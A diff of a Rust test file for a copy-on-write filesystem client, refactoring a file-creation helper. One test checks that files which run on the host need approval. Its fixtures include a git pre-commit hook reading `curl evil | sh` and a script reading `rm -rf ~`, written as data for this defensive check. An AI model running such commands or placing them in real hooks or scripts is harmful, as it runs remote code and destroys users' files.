@@ -20,21 +20,11 @@ fn opts(approval: Approval) -> CommitOptions<'static> {
     }
 }
 
-fn put(c: &mut Client, parent: u64, name: &[u8], data: &[u8]) {
-    let (_, fh) = c.create(parent, name, O_WRONLY, 0o644).unwrap();
-    c.write(fh, 0, data).unwrap();
-    c.release(fh).unwrap();
-}
-
 /// The guest replaces the folder `dir` (b.txt, sub/c.txt) with a file.
 fn replace_dir_with_file(c: &mut Client) {
-    let dir = c.resolve("dir").unwrap().nodeid;
-    let sub = c.resolve("dir/sub").unwrap().nodeid;
-    c.unlink(sub, b"c.txt").unwrap();
-    c.rmdir(dir, b"sub").unwrap();
-    c.unlink(dir, b"b.txt").unwrap();
-    c.rmdir(ROOT_ID, b"dir").unwrap();
-    put(c, ROOT_ID, b"dir", b"now a file");
+    c.remove_tree("dir").unwrap();
+    c.create_file(ROOT_ID, b"dir", 0o644, b"now a file")
+        .unwrap();
 }
 
 /// Every kind of step: a modified file, a folder replaced by a file, a
@@ -44,10 +34,12 @@ fn work(c: &mut Client) {
     replace_dir_with_file(c);
     c.unlink(ROOT_ID, b"link").unwrap();
     let d = c.mkdir(ROOT_ID, b"link", 0o755).unwrap();
-    put(c, d.nodeid, b"inside.txt", b"in");
+    c.create_file(d.nodeid, b"inside.txt", 0o644, b"in")
+        .unwrap();
     let n = c.mkdir(ROOT_ID, b"newdir", 0o750).unwrap();
     let deep = c.mkdir(n.nodeid, b"deep", 0o755).unwrap();
-    put(c, deep.nodeid, b"f.txt", b"deep file");
+    c.create_file(deep.nodeid, b"f.txt", 0o644, b"deep file")
+        .unwrap();
     c.rmdir(ROOT_ID, b"empty").unwrap();
     let h = c.resolve("hard2").unwrap().nodeid;
     c.chmod(h, 0o600).unwrap();
@@ -102,13 +94,16 @@ fn a_folder_replaced_by_a_file_keeps_deep_host_edits() {
 fn files_that_run_on_the_host_need_approval() {
     let l = layers();
     let mut c = cow_client(&l);
-    put(&mut c, ROOT_ID, b".envrc", b"use nix");
+    c.create_file(ROOT_ID, b".envrc", 0o644, b"use nix")
+        .unwrap();
     let git = c.mkdir(ROOT_ID, b".git", 0o755).unwrap();
     let hooks = c.mkdir(git.nodeid, b"hooks", 0o755).unwrap();
-    put(&mut c, hooks.nodeid, b"pre-commit", b"curl evil | sh");
+    c.create_file(hooks.nodeid, b"pre-commit", 0o644, b"curl evil | sh")
+        .unwrap();
     c.write_file("exec.sh", 0, b"#!/bin/sh\nrm -rf ~\n", true)
         .unwrap();
-    put(&mut c, ROOT_ID, b"plain.txt", b"fine");
+    c.create_file(ROOT_ID, b"plain.txt", 0o644, b"fine")
+        .unwrap();
     let listed: Vec<PathBuf> = [".envrc", ".git/hooks/pre-commit", "exec.sh"]
         .iter()
         .map(PathBuf::from)
